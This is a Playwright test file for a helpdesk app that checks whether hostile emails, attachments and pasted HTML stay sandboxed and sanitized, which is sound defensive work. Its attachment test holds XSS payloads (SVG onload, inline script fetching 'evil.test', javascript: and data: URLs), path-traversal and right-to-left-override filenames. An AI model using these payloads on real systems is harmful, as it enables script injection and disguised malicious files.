import type { MailClient } from '../../dev/mail/client.js'
import { closeAll, composer, editor, openInbox, rowOf, thread, unique } from './desk.js'
import { type HostileMail, hostileMails, ownSiteMail } from './hostileMails.js'
import { expect, type Page, test } from './test.js'

const heading = (page: Page) => page.getByRole('heading', { level: 1 })

const deliver = (
  mail: MailClient,
  { html, headers, subject: end = '', bytes }: HostileMail,
  subject: string,
): Promise<unknown> => {
  const all: Record<string, string> = {
    From: 'Mallory <mallory@hostile.test>',
    To: 'support@acme.test',
    Subject: `${subject} ${end}`.trim(),
    Date: new Date().toUTCString(),
    'Message-ID': `<${unique('hostile').replace(' ', '-')}@hostile.test>`,
    'MIME-Version': '1.0',
    'Content-Type': 'text/html; charset=utf-8',
    'Content-Transfer-Encoding': '8bit',
    ...headers,
  }
  const head = Object.entries(all).map(([name, value]) => `${name}: ${value}`)
  const body = bytes ?? Buffer.from(html.replace(/\n/g, '\r\n'))
  return mail.deliver({
    to: 'support@acme.test',
    raw: Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`), body, Buffer.from('\r\n')]),
  })
}

type Trace = { what: string }

/** Notes whatever gets out: requests to elsewhere, dialogs, pages that open, the page going somewhere else. */
const listen = async (page: Page, baseURL: string): Promise<Trace[]> => {
  const traces: Trace[] = []
  const note = (what: string): void => void traces.push({ what })
  await page.context().route(
    (url) => url.protocol.startsWith('http') && url.origin !== new URL(baseURL).origin,
    async (route) => {
      note(`request ${route.request().url()}`)
      await route.abort()
    },
  )
  page.on('dialog', (dialog) => {
    note(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', (popup) => note(`popup ${popup.url()}`))
  page.on('framenavigated', (frame) => {
    const url = frame.url()
    if (frame === page.mainFrame() ? !url.startsWith(baseURL) : !/^about:(srcdoc|blank)$/.test(url))
      note(`navigation to ${url}`)
  })
  return traces
}

/** What is in the mails' frames that must not be there, and what of them reached out. */
const inspect = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const found: string[] = []
    const global = window as unknown as Record<string, unknown>
    if (global.hacked) found.push('a script ran')
    const overlay = document.elementFromPoint(4, 4)
    if (!overlay || overlay.tagName === 'IFRAME') found.push('a frame lies over the corner of the page')
    for (const frame of document.querySelectorAll<HTMLIFrameElement>('.helpdesk iframe')) {
      const inner = frame.contentDocument
      if (!inner) {
        found.push('a frame that cannot be looked into')
        continue
      }
      if ((frame.contentWindow as unknown as Record<string, unknown>).hacked)
        found.push('a script ran in a frame')
      if (frame.getAttribute('sandbox')?.includes('allow-scripts')) found.push('a frame that may run scripts')
      if (frame.getBoundingClientRect().height > 60_000) found.push('a frame that is as tall as a mountain')
      const forbidden =
        'script, iframe, object, embed, form, input, link, svg, math, template, noscript, video, audio, body style, body meta, body base'
      for (const element of inner.querySelectorAll(forbidden))
        found.push(`<${element.tagName.toLowerCase()}>`)
      for (const element of inner.querySelectorAll('*'))
        for (const { name, value } of element.attributes) {
          if (name.startsWith('on')) found.push(`attribute ${name}`)
          if (['id', 'name', 'class', 'is', 'slot'].includes(name) && element.tagName !== 'META')
            found.push(`attribute ${name}=${value}`)
          if (name === 'href' && element.tagName === 'A' && !/^(https?:|mailto:|tel:)/.test(value))
            found.push(`link to ${value}`)
          if (name === 'style' && /url|image-set|position|expression|@/i.test(value))
            found.push(`style ${value}`)
        }
    }
    return found
  })

test.beforeEach(async ({ page, signIn }) => {
  await signIn('mara')
  await closeAll(page)
  await signIn('dana')
})

test('D01 D03 D04 D05 D06 D08 D12 D13 D15 D17 no mail runs, calls home or leaves its frame', async ({
  page,
  mail,
  baseURL,
}) => {
  test.setTimeout(240_000)
  const traces = await listen(page, baseURL!)
  const violations: string[] = []
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy/i.test(message.text()))
      violations.push(message.text())
  })
  await openInbox(page)
  const outside = () =>
    page.evaluate(() =>
      [...document.body.children]
        .map((child) => child.tagName)
        .filter((tag) => tag !== 'NEXT-ROUTE-ANNOUNCER')
        .join(' '),
    )
  // As it is with a mail that means no harm.
  const benign: HostileMail = { name: 'a kind mail', source: '', html: '<p>Hello!</p>' }
  let before = ''
  const found: Record<string, string[]> = {}
  for (const hostile of [benign, ...hostileMails]) {
    const subject = unique('Hostile')
    // While somebody points at the list it does not move.
    await page.mouse.move(1100, 700)
    await deliver(mail, hostile, subject)
    const waiting = page.getByRole('button', { name: /^\d+ new$/ })
    await expect(rowOf(page, subject).or(waiting)).toBeVisible()
    if (await waiting.isVisible()) await waiting.click()
    await rowOf(page, subject).click()
    await expect(heading(page)).toContainText(`${subject} ${hostile.subject ?? ''}`.trim())
    await expect(thread(page).locator('.hd-message--customer')).toBeVisible()
    const folded = thread(page).getByRole('button', { name: 'Show quoted text' })
    if (await folded.count()) await folded.first().click()
    // What waits for a moment, a movement or the end of loading has its chance.
    await page.mouse.move(1000, 400)
    await page.waitForTimeout(150)
    const wrong = [...(await inspect(page)), ...traces.splice(0).map(({ what }) => what)]
    before ||= await outside()
    if ((await outside()) !== before) wrong.push('the page outside the frame has changed')
    if (wrong.length) found[hostile.name] = wrong
    // The list stays short, so that the next one is in sight.
    const id = /inbox\/(\d+)/.exec(page.url())?.[1]
    await page.request.post(`/api/helpdesk/tickets/${id}/status`, { data: { status: 'closed' } })
  }
  expect(found).toEqual({})
  // Remote pictures wait for the agent's leave; nothing else was left for the policy to stop.
  expect(violations.filter((words) => !words.startsWith('Loading the image'))).toEqual([])
  expect(violations.length).toBeGreaterThan(0)
  expect(hostileMails.length).toBeGreaterThan(30)
})

test('D06 no mail makes the browser ask the site itself, also when its pictures are shown', async ({
  page,
  mail,
  baseURL,
}) => {
  const asked: string[] = []
  await page.context().route(
    (url) => url.searchParams.get('from') === 'mail',
    async (route) => {
      asked.push(route.request().url())
      await route.abort()
    },
  )
  const subject = unique('Own site')
  await openInbox(page)
  await deliver(mail, ownSiteMail(baseURL!), subject)
  await rowOf(page, subject).click()
  await expect(heading(page)).toContainText(subject)
  const message = thread(page).locator('.hd-message--customer')
  await expect(message.locator('iframe').contentFrame().getByText('words')).toBeVisible()
  await page.waitForTimeout(500)
  expect(asked).toEqual([])
  await message.getByRole('button', { name: 'Show once' }).click()
  await page.waitForTimeout(1000)
  // Of this machine's other names the page knows nothing, and they get none of its cookies.
  const others = new Set(['localhost', '127.0.0.1'])
  others.delete(new URL(baseURL!).hostname)
  expect(asked.filter((url) => !others.has(new URL(url).hostname))).toEqual([])
})

test('D07 D08 a hostile mail stays clean when it is pasted into an answer, sent and read again', async ({
  page,
  mail,
  baseURL,
}) => {
  const traces = await listen(page, baseURL!)
  await openInbox(page)
  const subject = unique('Quoted')
  await deliver(mail, { name: '', source: '', html: '<p>Please quote me.</p>' }, subject)
  await rowOf(page, subject).click()
  await expect(heading(page)).toContainText(subject)
  await page.keyboard.press('r')
  await expect(composer(page).locator('[data-lexical-editor]')).toBeVisible()
  await editor(page).focus()
  await page.keyboard.type('As you wrote: ')
  // Each on its own: an element that makes text of all behind it would hide the others.
  const paste = (html: string) =>
    editor(page).evaluate((element, pasted) => {
      const clipboardData = new DataTransfer()
      clipboardData.setData('text/html', pasted)
      clipboardData.setData('text/plain', 'words')
      element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
    }, html)
  for (const { html } of hostileMails) if (html) await paste(html.replaceAll('\0', ''))
  await paste('<p><b>Read as HTML to the end</b></p>')
  await expect(editor(page).locator('strong', { hasText: 'Read as HTML to the end' })).toBeVisible()
  await page.waitForTimeout(500)
  expect([...(await inspect(page)), ...traces.splice(0)]).toEqual([])
  await composer(page).getByRole('button', { name: 'Send', exact: true }).click()
  const copy = await mail.waitFor('mallory@hostile.test', 'As you wrote', 25_000)
  const { simpleParser } = await import('mailparser')
  const sent = await simpleParser(copy.raw)
  const bad = await page.evaluate((source) => {
    const inner = new DOMParser().parseFromString(source, 'text/html')
    const forbidden =
      'script, svg, math, iframe, object, embed, form, link, input, img, base, template, video, audio'
    const elements = [...inner.querySelectorAll(forbidden)].map(({ outerHTML }) => outerHTML)
    const attributes = [...inner.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter(
          ({ name, value }) =>
            name.startsWith('on') || (name === 'href' && !/^(https?:|mailto:|tel:)/.test(value)),
        )
        .map(({ name, value }) => `${name}=${value}`),
    )
    return [...elements, ...attributes]
  }, String(sent.html))
  expect(bad).toEqual([])
  await expect(thread(page).locator('.hd-message--reply')).toBeVisible()
  await page.reload()
  await expect(thread(page).locator('.hd-message--reply')).toBeVisible()
  await page.waitForTimeout(500)
  expect([...(await inspect(page)), ...traces.splice(0)]).toEqual([])
})

test('D02 D09 D10 D11 D14 the files and links of a mail never run, wherever they are opened', async ({
  page,
  mail,
  baseURL,
}) => {
  const traces = await listen(page, baseURL!)
  const script = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1;alert(1)"><script>window.hacked=1;alert(2);fetch('https://evil.test/x')</script></svg>`
  const files: [name: string, type: string][] = [
    ['a.svg', 'image/svg+xml'],
    ['b.html', 'text/html'],
    ['c.xhtml', 'application/xhtml+xml'],
    ['d.xml', 'text/xml'],
    ['e.pdf', 'application/pdf'],
    ['f.eml', 'message/rfc822'],
    ['g.png', 'text/html'],
    ['h.png', 'image/png'],
    ['../../i.svg', 'IMAGE/SVG+XML'],
    ['j\u202egpj.exe', 'application/octet-stream'],
  ]
  const words =
    'See javascript:alert(1) or http://evil.test/?x="onmouseover=alert(1)" or data:text/html,<script>alert(1)</script> or https://example.com/ok'
  const parts = [
    `Content-Type: text/plain; charset=utf-8\r\n\r\n${words}`,
    ...files.map(
      ([name, type]) =>
        `Content-Type: ${type}\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}\r\n\r\n${script}`,
    ),
  ]
  const subject = unique('Files')
  await openInbox(page)
  await deliver(
    mail,
    {
      name: '',
      source: '',
      html: '',
      headers: { 'Content-Type': 'multipart/mixed; boundary=b' },
      bytes: Buffer.from(`${parts.map((part) => `--b\r\n${part}\r\n`).join('')}--b--\r\n`),
    },
    subject,
  )
  await rowOf(page, subject).click()
  await expect(heading(page)).toContainText(subject)
  const message = thread(page).locator('.hd-message--customer')
  await expect(message).toContainText('javascript:alert(1)')
  const links = await message
    .locator('a[href]')
    .evaluateAll((all) =>
      all.map((link) => ({ href: (link as HTMLAnchorElement).href, rel: link.getAttribute('rel') ?? '' })),
    )
  const written = links.filter(({ href }) => !href.includes('/helpdesk/attachments/'))
  expect(written.map(({ href }) => href)).toContain('https://example.com/ok')
  for (const { href, rel } of written) {
    expect(href).toMatch(/^https?:/)
    expect(rel).toContain('noopener')
  }
  const attached = [
    ...new Set(links.map(({ href }) => href).filter((href) => href.includes('/helpdesk/attachments/'))),
  ]
  for (const src of await message
    .locator('img')
    .evaluateAll((all) => all.map((image) => (image as HTMLImageElement).src)))
    if (src.includes('/helpdesk/attachments/')) attached.push(src)
  expect(attached.length).toBeGreaterThanOrEqual(files.length)
  const names: string[] = []
  for (const href of attached) {
    const tab = await page.context().newPage()
    tab.on('dialog', (dialog) => {
      traces.push({ what: `dialog of ${href}` })
      void dialog.dismiss()
    })
    tab.on('download', (download) => names.push(download.suggestedFilename()))
    // A download ends the navigation.
    await tab.goto(href).catch(() => undefined)
    await tab.waitForTimeout(150)
    if (await tab.evaluate(() => 'hacked' in window)) traces.push({ what: `a script of ${href} ran` })
    await tab.close()
  }
  expect([...(await inspect(page)), ...traces.splice(0)]).toEqual([])
  // All but the one that says it is a picture, which is shown as one that is broken.
  expect(names.length).toBeGreaterThanOrEqual(files.length - 1)
  for (const name of names) expect(name).not.toMatch(/[/\\\u202e]|^\.\./)
})
